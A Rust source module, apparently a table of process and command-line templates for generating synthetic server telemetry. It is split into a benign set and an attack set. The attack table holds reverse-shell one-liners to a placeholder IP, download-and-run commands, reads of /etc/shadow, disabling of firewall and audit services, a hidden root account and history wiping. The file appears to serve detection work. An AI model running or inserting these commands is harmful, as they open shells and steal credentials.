//! The programs that start on servers, and how they are called.

/// A program, what started it, and command lines to fill in.
pub(super) struct Program {
    pub(super) image: &'static str,
    pub(super) parent: &'static str,
    pub(super) commands: &'static [&'static str],
}

const fn program(
    image: &'static str,
    parent: &'static str,
    commands: &'static [&'static str],
) -> Program {
    Program { image, parent, commands }
}

pub(super) static BENIGN: &[Program] = &[
    program(
        "/usr/bin/dash",
        "/usr/sbin/cron",
        &[
            "/bin/sh -c /usr/local/bin/collect-<word> --interval 60 --output /var/lib/metrics/<word>.prom",
            "/bin/sh -c [ -x /etc/init.d/<word> ] && /etc/init.d/<word> status <n>",
        ],
    ),
    program(
        "/usr/bin/grep",
        "/usr/bin/dash",
        &["grep -q <word> /var/lib/app/<word>.state", "grep -c ^<word>=<n> /etc/app/<word>.conf"],
    ),
    program("/usr/bin/sed", "/usr/bin/dash", &["sed -n s/^<word>=//p /etc/app/<word>.conf"]),
    program("/usr/bin/date", "/usr/bin/dash", &["date +%s", "date --utc --iso-8601=seconds"]),
    program(
        "/usr/bin/python3.11",
        "/usr/lib/systemd/systemd",
        &[
            "/usr/bin/python3 /srv/app/manage.py process_<word> --batch <n> --queue <word>",
            "python3 -m gunicorn app.wsgi:application --workers 4 --bind 0.0.0.0:<n>",
        ],
    ),
    program("/usr/sbin/sshd", "/usr/sbin/sshd", &["sshd: deploy [priv]", "/usr/sbin/sshd -D -R"]),
    program(
        "/usr/bin/bash",
        "/usr/sbin/sshd",
        &["-bash", "bash /srv/app/bin/deploy.sh <word> <n>"],
    ),
    program(
        "/usr/bin/git",
        "/usr/bin/bash",
        &["git fetch --prune origin <word>", "git rev-parse --short HEAD~<n>"],
    ),
    program(
        "/usr/bin/systemctl",
        "/usr/bin/sudo",
        &["systemctl restart <word>.service", "systemctl is-active --quiet <word>.service"],
    ),
    program("/usr/bin/sudo", "/usr/bin/bash", &["sudo /usr/bin/systemctl reload <word>.service"]),
    program(
        "/usr/bin/rsync",
        "/usr/bin/dash",
        &["rsync -a --delete /srv/<word>/ backup:/srv/<word>/<n>/"],
    ),
    program(
        "/usr/lib/postgresql/15/bin/postgres",
        "/usr/lib/postgresql/15/bin/postgres",
        &[
            "postgres: 15/main: autovacuum worker <word>",
            "postgres: 15/main: app <word> 10.30.0.12(<n>) idle",
        ],
    ),
    program(
        "/usr/bin/node",
        "/usr/bin/bash",
        &["node /srv/app/dist/server.js --port <n> --name <word>"],
    ),
    program(
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/lib/systemd/systemd",
        &[
            "/usr/bin/containerd-shim-runc-v2 -namespace moby -id <x><x><x><x><x><x><x><x> -address /run/containerd/containerd.sock",
        ],
    ),
    program(
        "/usr/sbin/runc",
        "/usr/bin/containerd-shim-runc-v2",
        &[
            "runc --root /var/run/docker/runtime-runc/moby --log-format json exec --process /tmp/runc-process<n> --detach <x><x><x><x>",
        ],
    ),
    program(
        "/usr/bin/find",
        "/usr/bin/dash",
        &["find /var/lib/php/sessions -type f -cmin +<n> -name sess_<word>* -delete"],
    ),
    program(
        "/usr/sbin/logrotate",
        "/usr/lib/systemd/systemd",
        &["/usr/sbin/logrotate /etc/logrotate.d/<word>"],
    ),
    program(
        "/usr/bin/apt-get",
        "/usr/lib/apt/apt.systemd.daily",
        &["apt-get -qq -y update", "apt-get -y install <word>=1.<n>"],
    ),
    program(
        "/usr/bin/openssl",
        "/usr/bin/bash",
        &["openssl x509 -checkend <n> -noout -in /etc/ssl/<word>.pem"],
    ),
    program("/usr/bin/ps", "/usr/bin/python3.11", &["ps -o pid,rss,comm -p <n>"]),
    program("/usr/bin/df", "/usr/bin/dash", &["df -P /srv/<word>"]),
    program("/usr/bin/jq", "/usr/bin/bash", &["jq -r .items[<n>].<word> /srv/app/state.json"]),
];

pub(super) static ATTACKS: &[Program] = &[
    program(
        "/usr/bin/bash",
        "/usr/sbin/apache2",
        &["bash -i >& /dev/tcp/<ip>/4444 0>&1", "bash -c whoami"],
    ),
    program(
        "/usr/bin/curl",
        "/usr/bin/dash",
        &["curl -fsSL http://<ip>/<word>.sh -o /tmp/<word>.sh", "curl -k https://<ip>/<word> | sh"],
    ),
    program("/usr/bin/wget", "/usr/bin/dash", &["wget -q http://<ip>/<word> -O /dev/shm/<word>"]),
    program(
        "/usr/bin/chmod",
        "/usr/bin/bash",
        &["chmod 777 /tmp/<word>.elf", "chmod +x /dev/shm/<word>"],
    ),
    program("/usr/bin/base64", "/usr/bin/bash", &["base64 -d /tmp/<word>.b64"]),
    program("/usr/bin/crontab", "/usr/bin/bash", &["crontab -l", "crontab /tmp/<word>"]),
    program("/usr/bin/nc.openbsd", "/usr/bin/bash", &["nc -e /bin/sh <ip> 4444", "nc -lvnp <n>"]),
    program(
        "/usr/bin/python3.11",
        "/usr/bin/bash",
        &["python3 -c import pty;pty.spawn(\"/bin/bash\")"],
    ),
    program("/usr/bin/cat", "/usr/bin/bash", &["cat /etc/shadow", "cat /root/.bash_history"]),
    program(
        "/usr/bin/systemctl",
        "/usr/bin/bash",
        &["systemctl stop firewalld", "systemctl disable --now auditd"],
    ),
    program("/usr/sbin/useradd", "/usr/bin/bash", &["useradd -o -u 0 -g root <word>"]),
    program("/usr/bin/history", "/usr/bin/bash", &["history -c"]),
];

/// Never drawn; stands where a table would be empty.
pub(super) static FALLBACK: Program = program("/sbin/init", "/sbin/init", &["init"]);
